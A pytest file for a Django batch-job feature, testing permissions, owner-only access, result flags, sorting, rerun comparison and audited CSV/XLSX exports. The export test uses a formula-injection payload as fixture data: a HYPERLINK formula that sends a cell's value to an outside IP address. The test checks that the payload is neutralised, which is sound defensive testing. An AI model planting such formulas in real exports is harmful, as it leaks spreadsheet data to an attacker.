"""Batch jobs through HTTP: who may define and run them on what, and that nobody but a job's
owner can see, run, pause, compare or export it. Runs are started for real; their documents'
results are written here as a worker would (the engine's own tests run the worker)."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from django.urls import reverse

from assistant.audit.models import AuditEvent
from assistant.batch import jobs, table
from assistant.batch.models import BatchJob, BatchResult, BatchRun
from ingestion.models import Document
from tests.conftest import login
from tests.factories import make_document, make_user

pytestmark = pytest.mark.embedded
Run, Result = BatchRun.Status, BatchResult.Status
LABELS = {"label_name": ["Invoice", "Contract", ""], "label_description": ["a bill", "", ""]}


def make_ready(collection, count: int) -> list[Document]:
    made = [make_document(collection, f"doc{n}.txt", f"Text {n}.".encode()) for n in range(count)]
    Document.objects.filter(pk__in=[d.pk for d in made]).update(status=Document.Status.READY)
    return made


@pytest.fixture
def analyst(people):
    """Reads Sales, and holds the permission to run jobs on what they read."""
    user = make_user("analyst", groups=["Sales"])
    user.user_permissions.add(Permission.objects.get(codename="run_batch_jobs"))
    return user


def classify_form(collection, **extra: object) -> dict:
    return {"name": "Sort the mail", "kind": "classify", "collections": [collection.pk]} | (
        LABELS | {"multi": "single"} | extra
    )


def make_job(people, kind: str = "classify") -> BatchJob:
    spec = {
        "classify": {"labels": [{"name": "Invoice"}, {"name": "Contract"}]},
        "extract": {"fields": [{"name": "total", "type": "number"}]},
    }[kind]
    return jobs.create_job(
        people.owner, name="Mail", kind=kind, collection_ids=[people.legal.pk], spec=spec
    )


def passage(document: Document, chunk_no: int = 0) -> dict:
    return {"n": 1, "document_id": document.pk, "page": 1, "chunk_no": chunk_no, "text": "x"}


def finish(run: BatchRun, values: dict[str, object], column: str = "label", **flags) -> None:
    """Every result done, with the value given for its document's title."""
    for result in run.results.all():
        result.status = Result.DONE
        cell = {"value": values[result.document_title], "passages": [passage(result.document)]}
        result.cells = {column: cell | {"flags": flags.get(result.document_title, [])}}
        result.save()
    run.status = Run.DONE
    run.save()


# --- who may define jobs, on what ---------------------------------------------------------------


def test_a_user_without_the_permission_cannot_define_or_list_jobs(people) -> None:
    make_ready(people.legal, 1)
    teammate = login(people.teammate)
    assert teammate.get(reverse("batch:index")).status_code == 403
    assert teammate.get(reverse("batch:create")).status_code == 403
    response = teammate.post(reverse("batch:create"), classify_form(people.legal))
    assert response.status_code == 403
    assert not BatchJob.objects.exists()
    assert 'href="/batch/"' not in teammate.get(reverse("chat:index")).content.decode()


def test_a_collection_admin_defines_jobs_only_on_the_collections_they_manage(people) -> None:
    make_ready(people.legal, 1)
    owner = login(people.owner)
    form = owner.get(reverse("batch:create")).content.decode()
    assert f'value="{people.legal.pk}"' in form and f'value="{people.sales.pk}"' not in form
    assert 'href="/batch/"' in form  # the navigation offers jobs to those who may run them
    response = owner.post(reverse("batch:create"), classify_form(people.sales))
    assert response.status_code == 400
    assert "Choose collections you may run jobs on." in response.content.decode()
    assert not BatchJob.objects.exists()


def test_the_permission_allows_jobs_on_collections_the_user_reads(people, analyst) -> None:
    make_ready(people.sales, 1)
    client = login(analyst)
    assert client.post(reverse("batch:create"), classify_form(people.legal)).status_code == 400
    response = client.post(reverse("batch:create"), classify_form(people.sales))
    job = BatchJob.objects.get()
    assert (job.owner, list(job.collections.all())) == (analyst, [people.sales])
    assert response.status_code == 302


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"name": " "}, "Give the job a name."),
        ({"collections": []}, "Choose at least one collection."),
        ({"label_name": ["Invoice"], "label_description": [""]}, "Give between 2 and 50 labels."),
        ({"label_name": ["Invoice", "invoice"]}, "Two labels have the same name."),
        ({"label_name": ["Invoice", ""], "label_description": ["", "orphan"]}, "needs a name"),
    ],
)
def test_a_bad_definition_is_refused_with_its_reason_and_the_form_kept(
    people, change: dict, message: str
) -> None:
    response = login(people.owner).post(
        reverse("batch:create"), classify_form(people.legal, **change)
    )
    page = response.content.decode()
    assert response.status_code == 400
    assert 'role="alert"' in page and message in page
    assert not BatchJob.objects.exists()
    if "name" not in change:
        assert 'value="Sort the mail"' in page


def test_an_extract_field_of_one_of_a_list_needs_its_choices(people) -> None:
    form = {
        "name": "Contracts",
        "kind": "extract",
        "collections": [people.legal.pk],
        "field_name": ["status", "renewal date"],
        "field_type": ["choice", "date"],
        "field_choices": ["active", ""],
        "field_description": ["", "when it renews"],
    }
    response = login(people.owner).post(reverse("batch:create"), form)
    assert response.status_code == 400
    assert "Field status needs 2 choices or more." in response.content.decode()
    make_ready(people.legal, 1)
    form["field_choices"] = ["active, expired", ""]
    login(people.owner).post(reverse("batch:create"), form)
    fields = BatchJob.objects.get().spec["fields"]
    assert [(f["name"], f["type"], f["choices"]) for f in fields] == [
        ("status", "choice", ["active", "expired"]),
        ("renewal date", "date", []),
    ]


def test_saving_a_job_shows_its_preview_on_three_documents(people) -> None:
    make_ready(people.legal, 5)
    response = login(people.owner).post(
        reverse("batch:create"), classify_form(people.legal, multi="multi")
    )
    run = BatchRun.objects.get()
    assert response.url == reverse("batch:run_detail", args=[run.pk])
    assert run.preview and run.results.count() == 3 and run.spec["multi"] is True
    page = login(people.owner).get(response.url).content.decode()
    assert "Preview of Sort the mail" in page and "0 of 3 documents done" in page


def test_a_job_without_ready_documents_is_saved_and_says_why_it_cannot_run(people) -> None:
    client = login(people.owner)
    response = client.post(reverse("batch:create"), classify_form(people.legal), follow=True)
    assert BatchJob.objects.exists() and not BatchRun.objects.exists()
    assert "no ready document" in response.content.decode()


# --- only the owner sees, runs, pauses, compares and exports ----------------------------------


def object_routes(job: BatchJob, run: BatchRun) -> list[tuple[str, str]]:
    return [
        ("get", reverse("batch:job", args=[job.pk])),
        ("get", reverse("batch:edit", args=[job.pk])),
        ("post", reverse("batch:edit", args=[job.pk])),
        ("post", reverse("batch:preview", args=[job.pk])),
        ("post", reverse("batch:run", args=[job.pk])),
        ("get", reverse("batch:run_detail", args=[run.pk])),
        ("post", reverse("batch:pause", args=[run.pk])),
        ("post", reverse("batch:resume", args=[run.pk])),
        ("post", reverse("batch:cancel", args=[run.pk])),
        ("get", reverse("batch:compare", args=[run.pk])),
        ("get", reverse("batch:export", args=[run.pk, "csv"])),
        ("get", reverse("batch:export", args=[run.pk, "xlsx"])),
    ]


def test_nobody_but_the_owner_can_see_run_pause_or_export_a_job(people, analyst) -> None:
    make_ready(people.legal, 2)
    make_ready(people.sales, 1)
    job = make_job(people)
    run = jobs.start(job, people.owner)
    other_admin = make_user("sales-admin")
    people.sales.managers.add(other_admin)
    denied_before = AuditEvent.objects.filter(action="access_denied").count()
    for method, url in object_routes(job, run):
        # Another user who may run jobs: the job is not there for them.
        for user in (analyst, other_admin):
            response = getattr(login(user), method)(url, classify_form(people.sales))
            assert response.status_code == 404, (user, method, url)
        # One who may not run jobs at all, even though they read the collection.
        response = getattr(login(people.teammate), method)(url)
        assert response.status_code == 403, (method, url)
        response = getattr(login(people.outsider), method)(url)
        assert response.status_code == 403, (method, url)
    run.refresh_from_db()
    job.refresh_from_db()
    assert run.status == Run.QUEUED and job.runs.count() == 1 and job.name == "Mail"
    assert AuditEvent.objects.filter(action="access_denied").count() > denied_before
    assert not AuditEvent.objects.filter(action="audit_exported").exists()
    # And the owner's list of jobs is theirs alone.
    assert "Mail" not in login(analyst).get(reverse("batch:index")).content.decode()
    assert "Mail" in login(people.owner).get(reverse("batch:index")).content.decode()


def test_anonymous_visitors_are_sent_to_sign_in(people) -> None:
    make_ready(people.legal, 1)
    job = make_job(people)
    run = jobs.start(job, people.owner)
    for method, url in object_routes(job, run):
        response = getattr(Client(), method)(url)
        assert response.status_code == 302 and response.url.startswith(reverse("login"))


def test_the_owner_pauses_resumes_and_cancels_a_run(people) -> None:
    make_ready(people.legal, 2)
    run = jobs.start(make_job(people), people.owner)
    client = login(people.owner)
    page = client.get(reverse("batch:run_detail", args=[run.pk])).content.decode()
    assert "Pause" in page and "Cancel run" in page and "Resume" not in page
    client.post(reverse("batch:pause", args=[run.pk]))
    run.refresh_from_db()
    assert run.status == Run.PAUSED
    page = client.get(reverse("batch:run_detail", args=[run.pk])).content.decode()
    assert "Resume" in page and "every 2s" not in page  # paused: the page stops polling
    client.post(reverse("batch:resume", args=[run.pk]))
    run.refresh_from_db()
    assert run.status == Run.QUEUED
    response = client.post(reverse("batch:cancel", args=[run.pk]), follow=True)
    run.refresh_from_db()
    assert run.status == Run.CANCELLED
    assert set(run.results.values_list("status", flat=True)) == {Result.CANCELLED}
    response = client.post(reverse("batch:pause", args=[run.pk]), follow=True)
    assert "This run cannot be paused now." in response.content.decode()


def test_progress_polls_only_while_the_run_is_queued_or_running(people, monkeypatch) -> None:
    make_ready(people.legal, 2)
    run = jobs.start(make_job(people), people.owner)
    client = login(people.owner)
    url = reverse("batch:run_detail", args=[run.pk])
    page = client.get(url).content.decode()
    assert 'hx-trigger="every 2s"' in page and 'aria-live="polite"' in page
    # A poll counts; it never builds the results table (thousands of rows every two seconds).
    monkeypatch.setattr(table, "filtered", lambda *args: pytest.fail("the poll read the table"))
    partial = client.get(url, headers={"HX-Request": "true"})
    assert "<html" not in partial.content.decode() and "HX-Refresh" not in partial
    assert "0 of 2 documents done" in partial.content.decode()
    finish(run, {"doc0": "Invoice", "doc1": "Contract"})
    partial = client.get(url, headers={"HX-Request": "true"})
    # Finished: the last poll reloads the page, which no longer polls.
    assert partial["HX-Refresh"] == "true" and "every 2s" not in partial.content.decode()
    assert "2 of 2 documents done" in partial.content.decode()
    monkeypatch.undo()
    assert "every 2s" not in client.get(url).content.decode()


# --- results: links, flags, sorting, filtering, exports, comparisons -------------------------


def test_every_cell_links_to_its_passage_and_flags_show_escaped(people) -> None:
    documents = make_ready(people.legal, 2)
    run = jobs.start(make_job(people, "extract"), people.owner)
    finish(
        run,
        {"doc0": 1200, "doc1": "<b>777</b>"},
        column="total",
        **{"doc1": ["not_in_passages"]},
    )
    page = login(people.owner).get(reverse("batch:run_detail", args=[run.pk])).content.decode()
    link = reverse("ingestion:document_page", args=[documents[0].pk, 1]) + "?chunk=0#passage"
    assert f'href="{link}"' in page
    assert "&lt;b&gt;777&lt;/b&gt;" in page and "<b>777</b>" not in page
    assert page.count("not in its passages") == 1
    flagged = login(people.owner).get(reverse("batch:run_detail", args=[run.pk]), {"flagged": "1"})
    assert "doc1" in flagged.content.decode() and "doc0" not in flagged.content.decode()


def test_an_impossible_date_is_flagged_in_words(people) -> None:
    make_ready(people.legal, 1)
    run = jobs.start(make_job(people, "extract"), people.owner)
    finish(run, {"doc0": "2024-02-30"}, column="total", doc0=["not_a_date"])
    page = login(people.owner).get(reverse("batch:run_detail", args=[run.pk])).content.decode()
    assert "⚠ not a real date" in page and "not_a_date" not in page


def rows_of(page: str, titles: list[str]) -> list[str]:
    return sorted(titles, key=page.index)


def test_results_sort_by_any_column_and_filter_by_search_and_status(people) -> None:
    make_ready(people.legal, 3)
    run = jobs.start(make_job(people, "extract"), people.owner)
    finish(run, {"doc0": 30, "doc1": 5, "doc2": None}, column="total")
    url = reverse("batch:run_detail", args=[run.pk])
    client = login(people.owner)
    titles = ["doc0", "doc1", "doc2"]
    page = client.get(url, {"sort": "c0"}).content.decode()
    assert rows_of(page, titles) == ["doc1", "doc0", "doc2"]
    assert 'aria-sort="ascending"' in page
    page = client.get(url, {"sort": "c0", "desc": "1"}).content.decode()
    assert rows_of(page, titles) == ["doc2", "doc0", "doc1"]
    page = client.get(url, {"sort": "document", "desc": "1"}).content.decode()
    assert rows_of(page, titles) == ["doc2", "doc1", "doc0"]
    page = client.get(url, {"q": "30"}).content.decode()
    assert "doc0" in page and "doc1" not in page
    page = client.get(url, {"status": "failed"}).content.decode()
    assert '<td colspan="3" class="muted">No results match.' in page  # document, status, total
    root = login(make_user("root", is_superuser=True))  # an auditor: one more column, Audit
    page = root.get(url, {"status": "failed"}).content.decode()
    assert '<td colspan="4" class="muted">No results match.' in page
    assert client.get(url, {"sort": "c99", "page": "x"}).status_code == 200


def test_exports_neutralise_formulas_and_are_audited(people) -> None:
    from openpyxl import load_workbook

    make_ready(people.legal, 3)
    run = jobs.start(make_job(people, "extract"), people.owner)
    hostile = '=HYPERLINK("http://203.0.113.9/?"&A1,"open")'
    finish(run, {"doc0": hostile, "doc1": -5, "doc2": "@SUM(1)"}, column="total")
    client = login(people.owner)
    response = client.get(reverse("batch:export", args=[run.pk, "csv"]), {"sort": "document"})
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:4] == ["Document id", "Document", "Status", "total"]
    assert [r[3] for r in rows[1:]] == ["'" + hostile, "-5", "'@SUM(1)"]
    assert rows[1][4] == "1"  # the pages its cells came from
    response = client.get(reverse("batch:export", args=[run.pk, "xlsx"]), {"sort": "document"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[3] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == ["'" + hostile, -5, "'@SUM(1)"]
    assert all(c.data_type != "f" for c in cells)
    events = AuditEvent.objects.filter(action="audit_exported", target_id=str(run.pk))
    assert sorted(e.detail["format"] for e in events) == ["csv", "xlsx"]
    assert client.get(reverse("batch:export", args=[run.pk, "pdf"])).status_code == 404


def test_a_rerun_is_compared_with_the_run_before(people) -> None:
    make_ready(people.legal, 2)
    job = make_job(people)
    first = jobs.start(job, people.owner)
    finish(first, {"doc0": "Invoice", "doc1": "Contract"})
    second = jobs.start(job, people.owner)
    finish(second, {"doc0": "Invoice", "doc1": "Invoice"})
    client = login(people.owner)
    page = client.get(reverse("batch:run_detail", args=[second.pk])).content.decode()
    assert reverse("batch:compare", args=[second.pk]) in page
    page = client.get(reverse("batch:compare", args=[second.pk])).content.decode()
    assert "1 change" in page and "doc1" in page and "doc0" not in page
    assert "<del>Contract</del>" in page and "<ins>Invoice</ins>" in page
    page = client.get(reverse("batch:compare", args=[first.pk])).content.decode()
    assert "There is no earlier run of this job to compare with." in page
    job_page = client.get(reverse("batch:job", args=[job.pk])).content.decode()
    assert job_page.count("Compare with the previous run") == 1


def test_results_of_a_collection_the_owner_can_no_longer_read_are_withheld(people, analyst) -> None:
    make_ready(people.sales, 2)
    job = jobs.create_job(
        analyst,
        name="Leads",
        kind="summarise",
        collection_ids=[people.sales.pk],
        spec={"length": "short"},
    )
    run = jobs.start(job, analyst)
    finish(run, {"doc0": "Secret plans.", "doc1": "More secret plans."}, column="summary")
    client = login(analyst)
    url = reverse("batch:run_detail", args=[run.pk])
    assert "Secret plans." in client.get(url).content.decode()
    analyst.groups.clear()  # no longer reads Sales
    page = client.get(url).content.decode()
    assert "Secret plans." not in page and "No results match." in page
    export = client.get(reverse("batch:export", args=[run.pk, "csv"]))
    assert b"secret" not in b"".join(export.streaming_content).lower()


def test_the_owner_edits_a_job_and_previews_it_again(people) -> None:
    make_ready(people.legal, 1)
    job = make_job(people)
    client = login(people.owner)
    form = client.get(reverse("batch:edit", args=[job.pk])).content.decode()
    assert 'value="Invoice"' in form and 'name="kind"' not in form  # a job keeps its type
    response = client.post(
        reverse("batch:edit", args=[job.pk]),
        classify_form(people.legal, name="Sort the post", kind="extract"),
    )
    job.refresh_from_db()
    assert (job.name, job.kind) == ("Sort the post", "classify")
    assert [label["name"] for label in job.spec["labels"]] == ["Invoice", "Contract"]
    run = job.runs.get()
    assert run.preview and response.url == reverse("batch:run_detail", args=[run.pk])
